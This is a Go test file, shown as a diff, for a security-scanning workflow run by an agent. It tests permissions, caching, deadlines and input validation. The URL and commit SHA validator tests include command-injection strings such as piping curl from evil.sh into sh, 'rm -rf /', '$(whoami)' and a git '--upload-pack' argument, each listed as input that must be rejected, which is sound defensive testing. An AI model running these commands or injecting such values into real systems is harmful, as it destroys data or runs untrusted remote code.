@@ -1,15 +1,28 @@
 package workflows
 
 import (
+	"context"
+	"errors"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"reflect"
+	"strings"
+	"sync"
 	"testing"
 	"time"
 
+	"github.com/stretchr/testify/mock"
+	"go.temporal.io/sdk/activity"
+	"go.temporal.io/sdk/converter"
+	"go.temporal.io/sdk/temporal"
 	"go.temporal.io/sdk/testsuite"
 )
 
 func TestSecurityScanWorkflow_PassedClean(t *testing.T) {
 	testSuite := &testsuite.WorkflowTestSuite{}
 	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
 
 	request := SecurityScanRequest{
 		RepositoryURL: "https://github.com/example/repo",
@@ -24,19 +37,20 @@ func TestSecurityScanWorkflow_PassedClean(t *testing.T) {
 		Permissions: []string{"security:scan:execute"},
 	}
 
-	env.OnActivity(RunSASTScan, request).Return(&ScanTypeResult{
+	env.OnActivity(activities.RunSASTScan, mock.Anything, request).Return(&ScanTypeResult{
 		ScanType:        "sast",
 		Vulnerabilities: []Vulnerability{},
 		Duration:        time.Minute * 5,
 	}, nil)
 
-	env.OnActivity(RunSecretsScan, request).Return(&ScanTypeResult{
+	env.OnActivity(RunSecretsScan, mock.Anything, request).Return(&ScanTypeResult{
 		ScanType:        "secrets",
 		Vulnerabilities: []Vulnerability{},
 		Duration:        time.Minute * 1,
 	}, nil)
 
-	env.OnActivity(GenerateSecurityReport, []Vulnerability{}).Return(&ReportResult{
+	env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{
 		ReportID: "SEC-123",
 		URL:      "https://security.example.com/reports/SEC-123",
 	}, nil)
@@ -90,9 +104,49 @@ func TestSecurityScanWorkflow_PermissionDenied(t *testing.T) {
 	}
 }
 
+func TestSecurityScanWorkflow_StrictPermissionDenied(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		Branch:        "main",
+		CommitSHA:     "abc123",
+		ScanTypes:     []string{"sast"},
+	}
+
+	agentCtx := AgentContext{
+		AgentID:           "agent-001",
+		SessionID:         "session-xyz",
+		Permissions:       []string{"read:only"},
+		StrictPermissions: true,
+	}
+
+	env.OnActivity(activities.RunSASTScan, mock.Anything, mock.Anything).Return(&ScanTypeResult{}, nil).Never()
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	if !env.IsWorkflowCompleted() {
+		t.Fatal("Workflow did not complete")
+	}
+
+	var appErr *temporal.ApplicationError
+	err := env.GetWorkflowError()
+	if !errors.As(err, &appErr) || appErr.Type() != PermissionDeniedError {
+		t.Fatalf("Expected a %s error, got %v", PermissionDeniedError, err)
+	}
+
+	if !appErr.NonRetryable() {
+		t.Error("Expected permission denial not to be retried")
+	}
+
+	env.AssertExpectations(t)
+}
+
 func TestSecurityScanWorkflow_CriticalVulnerabilities(t *testing.T) {
 	testSuite := &testsuite.WorkflowTestSuite{}
 	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
 
 	request := SecurityScanRequest{
 		RepositoryURL: "https://github.com/example/repo",
@@ -114,23 +168,31 @@ func TestSecurityScanWorkflow_CriticalVulnerabilities(t *testing.T) {
 		FilePath: "go.mod",
 	}
 
-	env.OnActivity(RunDependencyScan, request).Return(&ScanTypeResult{
+	env.OnActivity(RunDependencyScan, mock.Anything, request).Return(&ScanTypeResult{
 		ScanType:        "dependency",
 		Vulnerabilities: []Vulnerability{criticalVuln},
 		Duration:        time.Minute * 2,
 	}, nil)
 
-	env.OnActivity(GenerateSecurityReport, []Vulnerability{criticalVuln}).Return(&ReportResult{
+	env.OnActivity(GenerateSBOM, mock.Anything, mock.Anything).Return(&SBOMResult{URL: "https://security.example.com/sboms/abc123.json"}, nil)
+
+	env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, []Vulnerability{criticalVuln}, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{
 		ReportID: "SEC-456",
 		URL:      "https://security.example.com/reports/SEC-456",
 	}, nil)
 
-	env.OnActivity(NotifyComplianceTeam, NotificationRequest{
-		Type:    "CRITICAL_VULNERABILITIES",
-		Count:   1,
-		ScanID:  "SEC-456",
-		AgentID: "agent-001",
+	env.OnActivity(activities.CheckNotificationSuppression, mock.Anything, mock.Anything).Return(false, nil)
+
+	env.OnActivity(NotifyComplianceTeam, mock.Anything, NotificationRequest{
+		Type:     "CRITICAL_VULNERABILITIES",
+		Count:    1,
+		ScanID:   "SEC-456",
+		AgentID:  "agent-001",
+		DedupKey: "CRITICAL_VULNERABILITIES|https://github.com/example/repo|abc123",
 	}).Return(nil)
+	env.OnActivity(activities.RecordNotificationSent, mock.Anything,
+		"CRITICAL_VULNERABILITIES|https://github.com/example/repo|abc123").Return(nil).Once()
 
 	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
 
@@ -149,3 +211,2388 @@ func TestSecurityScanWorkflow_CriticalVulnerabilities(t *testing.T) {
 		t.Errorf("Expected 1 vulnerability, got %d", len(result.Vulnerabilities))
 	}
 }
+
+func TestSecurityScanWorkflow_RepoDefaultScanTypes(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		Branch:        "main",
+		CommitSHA:     "abc123",
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	env.OnActivity(LoadRepoScanConfig, mock.Anything, "https://github.com/example/repo").Return(&RepoScanConfig{
+		RepositoryURL: "https://github.com/example/repo",
+		ScanTypes:     []string{"secrets"},
+	}, nil)
+	env.OnActivity(activities.DetectApplicableScans, mock.Anything, "https://github.com/example/repo").Return([]string{}, nil)
+
+	configuredRequest := request
+	configuredRequest.ScanTypes = []string{"secrets"}
+
+	env.OnActivity(RunSecretsScan, mock.Anything, configuredRequest).Return(&ScanTypeResult{
+		ScanType:        "secrets",
+		Vulnerabilities: []Vulnerability{},
+		Duration:        time.Minute * 1,
+	}, nil).Once()
+
+	env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{
+		ReportID: "SEC-789",
+		URL:      "https://security.example.com/reports/SEC-789",
+	}, nil)
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	err := env.GetWorkflowResult(&result)
+
+	if err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if result.Status != "PASSED" {
+		t.Errorf("Expected status PASSED, got %s", result.Status)
+	}
+
+	env.AssertExpectations(t)
+}
+
+func TestSecurityScanWorkflow_RepoConfigThresholds(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		Branch:        "main",
+		CommitSHA:     "abc123",
+	}
+
+	// The repository fails on mediums, where the default only fails on highs
+	env.OnActivity(LoadRepoScanConfig, mock.Anything, "https://github.com/example/repo").Return(&RepoScanConfig{
+		RepositoryURL:  "https://github.com/example/repo",
+		ScanTypes:      []string{"sast"},
+		FailOnSeverity: "medium",
+	}, nil)
+	env.OnActivity(activities.DetectApplicableScans, mock.Anything, "https://github.com/example/repo").Return([]string{}, nil)
+
+	env.OnActivity(activities.RunSASTScan, mock.Anything, mock.MatchedBy(func(r SecurityScanRequest) bool {
+		return r.FailOnSeverity == "medium"
+	})).Return(&ScanTypeResult{
+		ScanType:        "sast",
+		Vulnerabilities: []Vulnerability{{ID: "VULN-010", Severity: "medium", Title: "Open redirect", FilePath: "web/redirect.go"}},
+	}, nil).Once()
+	env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{ReportID: "SEC-789"}, nil)
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, AgentContext{Permissions: []string{"security:scan:execute"}})
+
+	var result SecurityScanResult
+	if err := env.GetWorkflowResult(&result); err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if result.Status != "FAILED_MEDIUM" {
+		t.Errorf("Expected the repo's threshold to give FAILED_MEDIUM, got %s", result.Status)
+	}
+
+	env.AssertExpectations(t)
+}
+
+func TestApplyRepoScanConfig_RequestWins(t *testing.T) {
+	config := RepoScanConfig{
+		ScanTypes:        []string{"sast", "secrets"},
+		FailOnSeverity:   "medium",
+		MinFilesScanned:  50,
+		MaxTotalFindings: 1000,
+	}
+
+	applied := applyRepoScanConfig(SecurityScanRequest{MinFilesScanned: 5}, config)
+	if applied.FailOnSeverity != "medium" || applied.MaxTotalFindings != 1000 || len(applied.ScanTypes) != 2 {
+		t.Errorf("Expected the repo defaults for unset fields, got %+v", applied)
+	}
+	if applied.MinFilesScanned != 5 {
+		t.Errorf("Expected the request's MinFilesScanned to win, got %d", applied.MinFilesScanned)
+	}
+
+	applied = applyRepoScanConfig(SecurityScanRequest{ScanTypes: []string{"dast"}, FailOnSeverity: "critical", MaxTotalFindings: 10}, config)
+	if applied.FailOnSeverity != "critical" || applied.MaxTotalFindings != 10 || strings.Join(applied.ScanTypes, ",") != "dast" {
+		t.Errorf("Expected the request's settings to win, got %+v", applied)
+	}
+}
+
+func TestSecurityScanWorkflow_AddsDetectedScanTypes(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		Branch:        "main",
+		CommitSHA:     "abc123",
+	}
+
+	env.OnActivity(LoadRepoScanConfig, mock.Anything, "https://github.com/example/repo").Return(&RepoScanConfig{
+		RepositoryURL: "https://github.com/example/repo",
+		ScanTypes:     []string{"secrets", "dependency"},
+	}, nil)
+	env.OnActivity(activities.DetectApplicableScans, mock.Anything, "https://github.com/example/repo").Return([]string{"container", "dependency"}, nil)
+
+	env.OnActivity(RunSecretsScan, mock.Anything, mock.Anything).Return(&ScanTypeResult{ScanType: "secrets"}, nil).Once()
+	env.OnActivity(RunDependencyScan, mock.Anything, mock.Anything).Return(&ScanTypeResult{ScanType: "dependency"}, nil).Once()
+	env.OnActivity(GenerateSBOM, mock.Anything, mock.Anything).Return(&SBOMResult{}, nil).Maybe()
+	env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{
+		ReportID: "SEC-789",
+		URL:      "https://security.example.com/reports/SEC-789",
+	}, nil)
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, AgentContext{Permissions: []string{"security:scan:execute"}})
+
+	if err := env.GetWorkflowError(); err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	encoded, err := env.QueryWorkflow(ScanManifestQuery)
+	if err != nil {
+		t.Fatalf("Querying the scan manifest failed: %v", err)
+	}
+	var manifest ScanManifest
+	if err := encoded.Get(&manifest); err != nil {
+		t.Fatalf("Decoding the scan manifest failed: %v", err)
+	}
+
+	if want := []string{"secrets", "dependency", "container"}; strings.Join(manifest.RequestedScanTypes, ",") != strings.Join(want, ",") {
+		t.Errorf("Expected requested scan types %v, got %v", want, manifest.RequestedScanTypes)
+	}
+
+	// No container scanner yet, so the detected type is skipped rather than failed
+	if len(manifest.SkippedScanTypes) != 1 || manifest.SkippedScanTypes[0] != "container" {
+		t.Errorf("Expected container to be skipped, got %v", manifest.SkippedScanTypes)
+	}
+
+	env.AssertExpectations(t)
+}
+
+type recordingMetricsSink struct {
+	records []ScanMetricsRecord
+}
+
+func (s *recordingMetricsSink) Write(ctx context.Context, record ScanMetricsRecord) error {
+	s.records = append(s.records, record)
+	return nil
+}
+
+func TestSecurityScanWorkflow_ExportMetrics(t *testing.T) {
+	sink := &recordingMetricsSink{}
+	a := &Activities{ScanMetrics: sink}
+
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+	env.RegisterActivity(a.ExportScanMetrics)
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		Branch:        "main",
+		CommitSHA:     "abc123",
+		ScanTypes:     []string{"dependency"},
+		ExportMetrics: true,
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:*"},
+	}
+
+	vulns := []Vulnerability{
+		{ID: "CVE-2024-0001", Severity: "critical", FilePath: "go.mod"},
+		{ID: "CVE-2024-0002", Severity: "medium", FilePath: "go.mod"},
+		{ID: "CVE-2024-0003", Severity: "medium", FilePath: "package.json"},
+	}
+
+	env.OnActivity(RunDependencyScan, mock.Anything, request).Return(&ScanTypeResult{
+		ScanType:        "dependency",
+		Vulnerabilities: vulns,
+		Duration:        time.Minute * 2,
+	}, nil)
+
+	env.OnActivity(GenerateSBOM, mock.Anything, mock.Anything).Return(&SBOMResult{URL: "https://security.example.com/sboms/abc123.json"}, nil)
+
+	env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, vulns, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{
+		ReportID: "SEC-456",
+		URL:      "https://security.example.com/reports/SEC-456",
+	}, nil)
+
+	env.OnActivity(activities.CheckNotificationSuppression, mock.Anything, mock.Anything).Return(false, nil)
+	env.OnActivity(NotifyComplianceTeam, mock.Anything, mock.Anything).Return(nil)
+	env.OnActivity(activities.RecordNotificationSent, mock.Anything, mock.Anything).Return(nil)
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	if err := env.GetWorkflowError(); err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if len(sink.records) != 1 {
+		t.Fatalf("Expected 1 exported record, got %d", len(sink.records))
+	}
+
+	record := sink.records[0]
+	if record.RepositoryURL != request.RepositoryURL || record.CommitSHA != request.CommitSHA {
+		t.Errorf("Expected record for %s@%s, got %s@%s",
+			request.RepositoryURL, request.CommitSHA, record.RepositoryURL, record.CommitSHA)
+	}
+
+	if record.CriticalCount != 1 || record.HighCount != 0 || record.MediumCount != 2 || record.LowCount != 0 {
+		t.Errorf("Unexpected severity counts: critical=%d high=%d medium=%d low=%d",
+			record.CriticalCount, record.HighCount, record.MediumCount, record.LowCount)
+	}
+
+	if record.Status != "FAILED_CRITICAL" {
+		t.Errorf("Expected status FAILED_CRITICAL, got %s", record.Status)
+	}
+}
+
+func TestValidateRepositoryURL(t *testing.T) {
+	tests := []struct {
+		url   string
+		valid bool
+	}{
+		{"https://github.com/example/repo", true},
+		{"https://github.com/example/repo.git", true},
+		{"git@github.com:example/repo.git", true},
+		{"ssh://git@github.com/example/repo.git", true},
+		{"", false},
+		{"https://x;rm -rf /", false},
+		{"https://github.com/example/repo && curl evil.sh | sh", false},
+		{"https://github.com/example/$(whoami)", false},
+		{"https://github.com/example/`id`", false},
+		{"file:///etc/passwd", false},
+		{"--upload-pack=touch /tmp/pwned", false},
+		{"https:///example/repo", false},
+	}
+
+	for _, tt := range tests {
+		err := validateRepositoryURL(tt.url)
+		if tt.valid && err != nil {
+			t.Errorf("Expected %q to be valid, got %v", tt.url, err)
+		}
+		if !tt.valid && err == nil {
+			t.Errorf("Expected %q to be rejected", tt.url)
+		}
+	}
+}
+
+func TestSecurityScanWorkflow_InvalidRepositoryURL(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://x;rm -rf /",
+		Branch:        "main",
+		CommitSHA:     "abc123",
+		ScanTypes:     []string{"sast"},
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:*"},
+	}
+
+	env.OnActivity(activities.RunSASTScan, mock.Anything, mock.Anything).Return(&ScanTypeResult{ScanType: "sast"}, nil).Never()
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	err := env.GetWorkflowResult(&result)
+
+	if err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if result.Status != "INVALID_REPOSITORY_URL" {
+		t.Errorf("Expected status INVALID_REPOSITORY_URL, got %s", result.Status)
+	}
+}
+
+func TestValidateCommitSHA(t *testing.T) {
+	for _, sha := range []string{"0123456", "0123456789ABCDEF0123456789abcdef01234567"} {
+		if err := validateCommitSHA(sha); err != nil {
+			t.Errorf("Expected %q to be accepted, got %v", sha, err)
+		}
+	}
+	for _, sha := range []string{"", "012345", "HEAD; rm -rf /", "0123456789abcdef0123456789abcdef012345678"} {
+		if err := validateCommitSHA(sha); err == nil {
+			t.Errorf("Expected %q to be rejected", sha)
+		}
+	}
+}
+
+func TestSecurityScanWorkflow_LocalModeScansStagedFiles(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	// No commit exists yet, so whatever is in CommitSHA is dropped
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		Branch:        "feature/login",
+		CommitSHA:     "working-tree",
+		ScanTypes:     []string{"secrets"},
+		LocalMode:     true,
+		StagedFiles:   []string{"cmd/server/main.go", "config/dev.yaml"},
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	var scanned SecurityScanRequest
+	env.OnActivity(RunSecretsScan, mock.Anything, mock.Anything).Return(&ScanTypeResult{
+		ScanType: "secrets",
+		Vulnerabilities: []Vulnerability{
+			{ID: "SECRET-001", Severity: "medium", Title: "AWS access key", FilePath: "config/dev.yaml", LineNumber: 3},
+		},
+		FilesScanned: 2,
+	}, nil).Run(func(args mock.Arguments) { scanned = args.Get(1).(SecurityScanRequest) })
+
+	env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{
+		ReportID: "SEC-123",
+	}, nil)
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	err := env.GetWorkflowResult(&result)
+
+	if err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if scanned.CommitSHA != "" {
+		t.Errorf("Expected local mode to drop the commit SHA, got %q", scanned.CommitSHA)
+	}
+
+	if !scanned.LocalMode || len(scanned.StagedFiles) != 2 {
+		t.Errorf("Expected the scanner to get the staged files, got %+v", scanned)
+	}
+
+	if len(result.Vulnerabilities) != 1 || result.Vulnerabilities[0].FilePath != "config/dev.yaml" {
+		t.Errorf("Expected a finding in config/dev.yaml, got %+v", result.Vulnerabilities)
+	}
+
+	if result.CommitSHA != "" {
+		t.Errorf("Expected no commit SHA for a local scan, got %s", result.CommitSHA)
+	}
+}
+
+func TestSecurityScanWorkflow_IncrementalScansChangedFiles(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		Branch:        "main",
+		CommitSHA:     "abc123def456",
+		BaseCommitSHA: "0123456789ab",
+		ScanMode:      ScanModeIncremental,
+		ScanTypes:     []string{"sast"},
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	changed := []string{"auth/login.go", "auth/session.go"}
+	env.OnActivity(ComputeChangedFiles, mock.Anything, "https://github.com/example/repo", "0123456789ab", "abc123def456").
+		Return(changed, nil).Once()
+
+	var scanned SecurityScanRequest
+	env.OnActivity(activities.RunSASTScan, mock.Anything, mock.Anything).Return(&ScanTypeResult{
+		ScanType:     "sast",
+		FilesScanned: 2,
+	}, nil).Run(func(args mock.Arguments) { scanned = args.Get(1).(SecurityScanRequest) })
+
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{
+		ReportID: "SEC-123",
+	}, nil)
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	if err := env.GetWorkflowResult(&result); err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+	env.AssertExpectations(t)
+
+	expected := &ScanDiff{
+		BaseCommitSHA: "0123456789ab",
+		HeadCommitSHA: "abc123def456",
+		ChangedFiles:  changed,
+	}
+	if !reflect.DeepEqual(scanned.Diff, expected) {
+		t.Errorf("Expected RunSASTScan to get diff %+v, got %+v", expected, scanned.Diff)
+	}
+}
+
+func TestSecurityScanWorkflow_InvalidScanMode(t *testing.T) {
+	for name, request := range map[string]SecurityScanRequest{
+		"unknown mode":   {ScanMode: "partial"},
+		"no base commit": {ScanMode: ScanModeIncremental},
+		"local mode":     {ScanMode: ScanModeIncremental, BaseCommitSHA: "0123456789ab", LocalMode: true},
+	} {
+		t.Run(name, func(t *testing.T) {
+			testSuite := &testsuite.WorkflowTestSuite{}
+			env := testSuite.NewTestWorkflowEnvironment()
+
+			request.RepositoryURL = "https://github.com/example/repo"
+			request.CommitSHA = "abc123def456"
+			env.ExecuteWorkflow(SecurityScanWorkflow, request, AgentContext{})
+
+			var appErr *temporal.ApplicationError
+			if err := env.GetWorkflowError(); !errors.As(err, &appErr) || appErr.Type() != InvalidScanModeError {
+				t.Fatalf("Expected an %s error, got %v", InvalidScanModeError, err)
+			}
+		})
+	}
+}
+
+func TestSecurityScanWorkflow_ScanCacheHit(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		CommitSHA:     "0123456789abcdef0123456789abcdef01234567",
+		ScanTypes:     []string{"sast", "secrets"},
+		UseCache:      true,
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	cached := &SecurityScanResult{
+		ScanID:        "SEC-OLD",
+		RepositoryURL: "https://github.com/example/repo",
+		CommitSHA:     "0123456789abcdef0123456789abcdef01234567",
+		Status:        "FAILED_HIGH",
+		StartedAt:     time.Date(2024, 1, 1, 12, 0, 0, 0, time.UTC),
+		CompletedAt:   time.Date(2024, 1, 1, 12, 5, 0, 0, time.UTC),
+		Vulnerabilities: []Vulnerability{
+			{ID: "VULN-001", Severity: "high", Title: "SQL injection"},
+		},
+	}
+	env.OnActivity(activities.CheckScanCache, mock.Anything, scanCacheKey(request)).Return(cached, nil).Once()
+
+	// No scanner, slot, report or StoreScanCache mocks: a hit must not run any
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	if err := env.GetWorkflowResult(&result); err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+	env.AssertExpectations(t)
+
+	if result.Status != "FAILED_HIGH" {
+		t.Errorf("Expected the cached FAILED_HIGH status, got %s", result.Status)
+	}
+	if result.ScanID != "default-test-workflow-id" {
+		t.Errorf("Expected the cached result restamped with this scan's ID, got %s", result.ScanID)
+	}
+	if result.StartedAt.Equal(cached.StartedAt) || result.CompletedAt.Equal(cached.CompletedAt) {
+		t.Errorf("Expected the cached result restamped with this scan's times, got %v - %v", result.StartedAt, result.CompletedAt)
+	}
+	if len(result.Vulnerabilities) != 1 {
+		t.Errorf("Expected the cached finding, got %+v", result.Vulnerabilities)
+	}
+}
+
+func TestSecurityScanWorkflow_ScanCacheMiss(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		CommitSHA:     "0123456789abcdef0123456789abcdef01234567",
+		ScanTypes:     []string{"sast"},
+		UseCache:      true,
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	env.OnActivity(activities.CheckScanCache, mock.Anything, scanCacheKey(request)).Return(nil, nil).Once()
+	env.OnActivity(activities.RunSASTScan, mock.Anything, mock.Anything).Return(&ScanTypeResult{
+		ScanType:     "sast",
+		FilesScanned: 240,
+	}, nil).Once()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{
+		ReportID: "SEC-123",
+		URL:      "https://security.example.com/reports/SEC-123",
+	}, nil)
+	env.OnActivity(activities.StoreScanCache, mock.Anything, scanCacheKey(request), mock.MatchedBy(func(result SecurityScanResult) bool {
+		return result.ScanID == "SEC-123" && result.Status == "PASSED"
+	})).Return(nil).Once()
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	if err := env.GetWorkflowResult(&result); err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+	env.AssertExpectations(t)
+
+	if result.Status != "PASSED" {
+		t.Errorf("Expected status PASSED, got %s", result.Status)
+	}
+}
+
+func TestSecurityScanWorkflow_DeadlineCancelsSlowScanners(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	start := time.Date(2024, 3, 1, 9, 0, 0, 0, time.UTC)
+	env.SetStartTime(start)
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		CommitSHA:     "abc123def456",
+		ScanTypes:     []string{"sast", "secrets"},
+		Deadline:      start.Add(time.Minute * 10),
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	// SAST would take 25 minutes; secrets finishes well inside the deadline
+	env.OnActivity(activities.RunSASTScan, mock.Anything, mock.Anything).After(time.Minute*25).Return(&ScanTypeResult{
+		ScanType:     "sast",
+		FilesScanned: 240,
+	}, nil)
+	env.OnActivity(RunSecretsScan, mock.Anything, mock.Anything).Return(&ScanTypeResult{
+		ScanType: "secrets",
+		Vulnerabilities: []Vulnerability{
+			{ID: "SECRET-001", Severity: "high", Title: "GitHub token", FilePath: "deploy.sh", LineNumber: 7},
+		},
+		FilesScanned: 240,
+	}, nil)
+
+	// No report mock: a timed out scan returns without one
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	if err := env.GetWorkflowResult(&result); err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if result.Status != "TIMED_OUT" {
+		t.Errorf("Expected status TIMED_OUT, got %s", result.Status)
+	}
+	if len(result.Vulnerabilities) != 1 || result.Vulnerabilities[0].ID != "SECRET-001" {
+		t.Errorf("Expected the secrets scan's finding, got %+v", result.Vulnerabilities)
+	}
+	if !reflect.DeepEqual(result.ScannersRun, []string{"secrets"}) {
+		t.Errorf("Expected only secrets to have run, got %v", result.ScannersRun)
+	}
+	if elapsed := result.CompletedAt.Sub(start); elapsed > time.Minute*11 {
+		t.Errorf("Expected the scan to stop at its deadline, took %v", elapsed)
+	}
+}
+
+func TestSecurityScanWorkflow_AddScanTypeSignal(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		CommitSHA:     "abc123def456",
+		ScanTypes:     []string{"sast"},
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	env.OnActivity(activities.RunSASTScan, mock.Anything, mock.Anything).After(time.Minute*10).Return(&ScanTypeResult{
+		ScanType:     "sast",
+		FilesScanned: 240,
+	}, nil).Once()
+	env.OnActivity(RunSecretsScan, mock.Anything, mock.Anything).Return(&ScanTypeResult{
+		ScanType: "secrets",
+		Vulnerabilities: []Vulnerability{
+			{ID: "SECRET-001", Severity: "medium", Title: "Slack webhook", FilePath: "notify.py", LineNumber: 12},
+		},
+		FilesScanned: 240,
+	}, nil).Once()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{
+		ReportID: "SEC-123",
+		URL:      "https://security.example.com/reports/SEC-123",
+	}, nil)
+
+	// The agent adds secrets while SAST runs; the repeat, the type already
